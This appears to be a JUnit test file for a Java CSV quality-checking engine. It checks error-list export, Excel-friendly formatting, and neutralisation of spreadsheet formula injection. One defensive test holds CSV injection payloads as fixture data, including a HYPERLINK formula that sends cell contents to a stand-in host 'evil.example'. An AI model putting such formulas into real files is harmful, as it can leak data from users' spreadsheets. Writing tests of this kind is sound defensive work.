package fr.passerelle.quality.engine;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import fr.passerelle.quality.engine.annotate.AnnotationFormat;
import fr.passerelle.quality.engine.annotate.ReportOutputs;
import fr.passerelle.quality.engine.report.QualityReport;
import fr.passerelle.quality.engine.report.ValidationError;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The full error list: every finding, where the report keeps a hundred samples per kind. */
class ErrorListTest {

    @Test
    void holdsEveryFindingWhileTheReportKeepsSamples(@TempDir Path dir) throws IOException {
        StringBuilder raw = new StringBuilder(TestSchemas.EQUIPEMENTS_HEADER).append('\n');
        for (int i = 0; i < 1_000; i++) {
            raw.append("E-").append(i).append(",Salle,beaucoup,,,,\n");
        }
        Path file = Files.writeString(dir.resolve("equipements.csv"), raw);
        ByteArrayOutputStream list = new ByteArrayOutputStream();

        QualityReport report = QualityCheck.of(TestSchemas.equipements())
                .run(file, OutputStream.nullOutputStream(), ReportOutputs.none().withErrorList(list));

        assertEquals(1_000, report.errorCount());
        assertEquals(QualityReport.MAX_SAMPLES_PER_CODE, report.samples().size());
        List<CsvRecord> lines = read(list.toByteArray());
        assertEquals(List.of("ligne", "colonne", "code", "valeur", "message", "conseil"), lines.get(0).getFields());
        assertEquals(1_001, lines.size());
        ValidationError first = report.samples().get(0);
        assertEquals(List.of("2", "capacite", "type-error", "beaucoup", first.message(), first.hint()),
                lines.get(1).getFields());
        assertEquals("1001", lines.get(1_000).getField(0), "the last row's finding too");
    }

    @Test
    void isUtf8WithAByteOrderMarkAndSemicolonsForExcel(@TempDir Path dir) throws IOException {
        Path file = Files.writeString(dir.resolve("e.csv"), TestSchemas.EQUIPEMENTS_HEADER + "\nE-1,Salle;Gymnase,dix,,,,\n");
        ByteArrayOutputStream list = new ByteArrayOutputStream();

        QualityCheck.of(TestSchemas.equipements())
                .run(file, OutputStream.nullOutputStream(), ReportOutputs.none().withErrorList(list));

        byte[] bytes = list.toByteArray();
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, java.util.Arrays.copyOf(bytes, 3));
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("ligne;colonne;code;valeur;message;conseil\r\n"), text);
        assertTrue(text.contains("\r\n2;capacite;type-error;dix;La valeur « dix » de la colonne « capacite »"), text);
    }

    @Test
    void leavesTheRowEmptyForAFindingOnTheWholeFile(@TempDir Path dir) throws IOException {
        Path file = Files.write(dir.resolve("vide.csv"), new byte[0]);
        ByteArrayOutputStream list = new ByteArrayOutputStream();

        QualityCheck.of(TestSchemas.equipements())
                .run(file, OutputStream.nullOutputStream(), ReportOutputs.none().withErrorList(list));

        List<CsvRecord> lines = read(list.toByteArray());
        assertEquals(2, lines.size());
        assertEquals(List.of("", "", "empty-file", ""), lines.get(1).getFields().subList(0, 4));
    }

    @Test
    void aFailingOutputIsAnIOExceptionNotAFindingNorACrashOfTheRun(@TempDir Path dir) throws IOException {
        Path file = Files.writeString(dir.resolve("e.csv"), TestSchemas.EQUIPEMENTS_HEADER + "\nE-1,Salle,dix,,,,\n");
        OutputStream broken = new OutputStream() {
            @Override
            public void write(int b) throws IOException {
                throw new IOException("disque plein");
            }
        };

        IOException thrown = assertThrows(IOException.class, () -> QualityCheck.of(TestSchemas.equipements())
                .run(file, OutputStream.nullOutputStream(), ReportOutputs.none().withAnnotated(broken, AnnotationFormat.CSV)));
        assertEquals("disque plein", thrown.getMessage());
    }

    /**
     * OWASP CSV injection: both downloads are made for a double click in a spreadsheet and carry the uploaded
     * file's own values, so a value that would open as a formula gets a leading quote, in each part a
     * spreadsheet may split off ({@code x;=2+3;y}); numbers stay numbers.
     */
    @Test
    void neutralisesTheFilesFormulasInTheErrorListAndTheAnnotatedCsv(@TempDir Path dir) throws IOException {
        Path file = Files.writeString(dir.resolve("e.csv"), TestSchemas.EQUIPEMENTS_HEADER + "\n"
                + "E-1,\"x;=2+3;y\",=1+1,,,,@SUM(A1)\n"
                + "E-2,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",+3+cmd,,,-12,\n");
        ByteArrayOutputStream list = new ByteArrayOutputStream();
        ByteArrayOutputStream annotated = new ByteArrayOutputStream();

        QualityCheck.of(TestSchemas.equipements()).run(file, OutputStream.nullOutputStream(),
                ReportOutputs.none().withErrorList(list).withAnnotated(annotated, AnnotationFormat.CSV));

        String errors = list.toString(StandardCharsets.UTF_8);
        String rows = annotated.toString(StandardCharsets.UTF_8);
        assertTrue(errors.contains(";capacite;type-error;'=1+1;"), errors);
        assertTrue(errors.contains(";capacite;type-error;'+3+cmd;"), errors);
        assertTrue(rows.contains(";\"x;'=2+3;y\";'=1+1;"), rows);
        assertTrue(rows.contains(";'@SUM(A1)\r\n"), rows);
        assertTrue(rows.contains("\"'=HYPERLINK("), rows);
        assertTrue(rows.contains(";-12;"), "a negative number stays a number: " + rows);
        for (String text : List.of(errors, rows)) {
            for (String cell : text.replace("\uFEFF", "").split("[;,\r\n]+")) {
                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertTrue(value.isBlank() || "=+@".indexOf(value.strip().charAt(0)) < 0
                        || value.strip().matches("[+-]?\\d+"), "« " + value + " » would open as a formula");
            }
        }
    }

    /** The records of a list written by the engine, its byte order mark skipped. */
    static List<CsvRecord> read(byte[] bytes) {
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "starts with a byte order mark");
        return CsvReader.builder().fieldSeparator(';').allowExtraFields(true).ofCsvRecord(text.substring(1)).stream().toList();
    }
}
